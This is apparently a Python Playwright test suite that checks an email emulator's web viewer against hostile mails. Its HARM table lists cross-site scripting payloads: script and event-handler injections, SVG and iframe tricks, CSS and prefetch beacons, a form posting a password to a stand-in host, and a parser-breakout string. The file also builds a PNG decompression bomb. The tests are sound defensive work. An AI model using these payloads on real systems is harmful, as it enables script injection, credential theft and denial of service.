"""Mails of people who mean harm: nothing in them runs, nothing leaves the machine, and the page stays usable."""

from __future__ import annotations

import struct
import threading
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import expect

from browser.chromium import Window
from browser.mails import encoded, message, only
from emulator import Emulator

#: `THERE` is a server of somebody else; whatever runs would call it or mark the window.
HARM = {
    "script": "<script>top.harm=1;parent.harm=1;fetch('THERE/script')</script>",
    "handlers": "<img src=x onerror=\"parent.harm=1;fetch('THERE/onerror')\"><body onload=\"parent.harm=1\">",
    "svg": "<svg onload=\"parent.harm=1\"><script>parent.harm=1</script><image href=\"THERE/svg\"/></svg>",
    "svg as data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.harm=1'><image href='THERE/data'/></svg>\">",
    "form": "<form action=\"THERE/form\" method=post><input name=password><button id=go>Sign in</button></form>",
    "frame": "<iframe src=\"THERE/frame\"></iframe><iframe srcdoc=\"<script>top.harm=1</script>\"></iframe>",
    "object": "<object data=\"THERE/object\"></object><embed src=\"THERE/embed\">",
    "refresh": "<meta http-equiv=refresh content=\"0;url=THERE/refresh\">",
    "base": "<base href=\"THERE/\"><img src=base.png><link rel=stylesheet href=style.css>",
    "style": "<style>@import 'THERE/import.css'; @font-face{font-family:f;src:url(THERE/font)} *{font-family:f;background:url(THERE/background)}</style>",
    "cover": "<style>body{position:fixed;inset:0;z-index:99999;background:red}html{position:fixed;inset:-9999px}</style><div style='position:fixed;inset:0;background:red'>All yours</div>",
    "javascript": "<a id=go href=\"javascript:parent.harm=1\" target=_top>Click</a>",
    "top": "<a id=go href=\"THERE/top\" target=_top>Click</a>",
    "prefetch": "<link rel=prefetch href=\"THERE/prefetch\"><link rel=preconnect href=\"THERE\"><link rel=dns-prefetch href=\"THERE\">",
    "media": "<video src=\"THERE/video\" poster=\"THERE/poster\" autoplay></video><audio src=\"THERE/audio\" autoplay></audio>",
    "source set": "<picture><source srcset=\"THERE/source\"><img srcset=\"THERE/srcset 2x\" src=\"THERE/src\"></picture>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\"><script>top.harm=1</script><img src=THERE/policy>",
    "unclosed": "<div><table><tr><td><style>body{display:none",
    "template": "</script></iframe></textarea></title><script>top.harm=1</script><math><mi//xlink:href=\"data:x,<script>top.harm=1</script>\">",
}

#: What Chromium says of what it was kept from.
KEPT_FROM = ("Content Security Policy", "sandboxed", "Blocked script execution", "status of 4", "ERR_", "Failed to load resource")

#: Where data stands in the page itself.
MARKUP = "<img src=x onerror=harm=1><script>harm=1</script>"


class Elsewhere:
    """A server of somebody else, which remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                # A window of its own would ask for an icon, which nothing in a mail did.
                of_a_window = self.path == "/top"
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if of_a_window else "image/gif")
                self.end_headers()
                self.wfile.write(b"<link rel=icon href=data:,>" if of_a_window else b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.root = f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> Elsewhere:
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def nothing_of_a_mail_runs_or_leaves(window: Window, emulator: Emulator) -> None:
    window.allow(*KEPT_FROM)
    page = window.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with Elsewhere() as there:
        for name, html in HARM.items():
            emulator.reset()
            emulator.send(message(subject=name, html=html.replace("THERE", there.root)))
            served = page.request.get(f"{emulator.root}/_emulator/emails/{only(emulator)}/html")
            assert served.status == 200, f"{name} is not shown"
            policy = served.headers["content-security-policy"]
            assert policy.startswith("sandbox allow-popups") and "default-src 'none'" in policy, policy
            window.open(f"mail/{only(emulator)}")
            expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
            frame = page.locator("iframe.mail-frame").element_handle().content_frame()
            assert frame is not None, name
            frame.wait_for_load_state("load")
            for control in frame.locator("#go").all():
                control.click(force=True, timeout=2000)
            # A turn of the page's own loop: what a mail had started would be there by now.
            page.evaluate("new Promise(done => setTimeout(done, 50))")
            assert page.evaluate("window.harm") is None, f"{name} ran"
            assert page.url.startswith(emulator.root), f"{name} led to {page.url}"
            page.get_by_role("tab", name="Timeline").click()
            expect(page.get_by_role("tabpanel"), name).to_contain_text("ent")
            for other in page.context.pages[1:]:
                other.close()
        asked = [path for path in there.asked if path != "/top"]
        assert not asked, f"asked for {asked}"
    assert not dialogs, dialogs


def data_in_the_page_are_no_markup(window: Window, emulator: Emulator) -> None:
    emulator.send(
        message(
            subject=MARKUP,
            text=MARKUP,
            html=None,
            to=[{"email": "ann@one.example", "name": MARKUP}],
            tags=[MARKUP[:40]],
            headers=[{"name": "X-Harm", "value": MARKUP}],
            attachments=[{"filename": "<img src=x>.csv", "content": encoded(b"a"), "disposition": "attachment"}],
        )
    )
    page = window.open(f"mail/{only(emulator)}")
    expect(page.get_by_role("heading", name=MARKUP)).to_be_visible()
    for part in page.get_by_role("tab").all():
        part.click()
        expect(page.get_by_role("tabpanel")).not_to_be_empty()
        assert page.evaluate("window.harm") is None
    for place in ["requests", "inbound", ""]:
        window.open(place)
        assert page.evaluate("window.harm") is None, place
    assert not window.foreign(), window.foreign()


def remote_content_is_loaded_when_asked_for(window: Window, emulator: Emulator) -> None:
    window.allow(*KEPT_FROM)
    page = window.page
    with Elsewhere() as there:
        html = f'<img alt=Logo src="{there.root}/logo.gif"><script>fetch("{there.root}/script")</script>'
        for subject in ["One", "Two"]:
            emulator.send(message(subject=subject, html=html))
        one, two = [email["id"] for email in emulator.emails()]
        window.open(f"mail/{one}")
        expect(page.get_by_text("Remote content is blocked.")).to_be_visible()
        page.frame_locator("iframe.mail-frame").get_by_alt_text("Logo").wait_for(state="attached")
        assert there.asked == [], there.asked
        with page.expect_response(f"{there.root}/logo.gif"):
            page.get_by_role("button", name="Load it").click()
        expect(page.get_by_text("Remote content is loaded.")).to_be_visible()
        assert there.asked == ["/logo.gif"], there.asked
        window.open(f"mail/{two}")
        expect(page.get_by_text("Remote content is blocked.")).to_be_visible()
        page.frame_locator("iframe.mail-frame").get_by_alt_text("Logo").wait_for(state="attached")
        assert there.asked == ["/logo.gif"], there.asked


def large_mails_leave_the_page_usable(window: Window, emulator: Emulator) -> None:
    page = window.page
    picture = encoded(bomb())
    html = f'<img alt=Bomb src="data:image/png;base64,{picture}">' + "<div>" * 20_000 + "deep" + "<p>wide</p>" * 20_000
    files = [{"filename": "bomb.png", "content": picture, "disposition": "attachment"}]
    emulator.send(message(subject="Large", html=html, text="a very long line " * 60_000, attachments=files))
    window.open(f"mail/{only(emulator)}")
    for name in ["Text", "Source", "Files", "Request", "Timeline"]:
        page.get_by_role("tab", name=name).click()
        expect(page.get_by_role("tabpanel"), name).not_to_be_empty()
    page.get_by_role("searchbox").fill("subject:large")
    expect(page.locator(".mail-row")).to_have_count(1)


def bomb() -> bytes:
    """A picture of 20,000 by 20,000 dots in a few kilobytes."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    side = 20_000
    lines = zlib.compress(bytes((side + 7) // 8 + 1) * side, 9)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


CHECKS = [
    nothing_of_a_mail_runs_or_leaves,
    data_in_the_page_are_no_markup,
    remote_content_is_loaded_when_asked_for,
    large_mails_leave_the_page_usable,
]
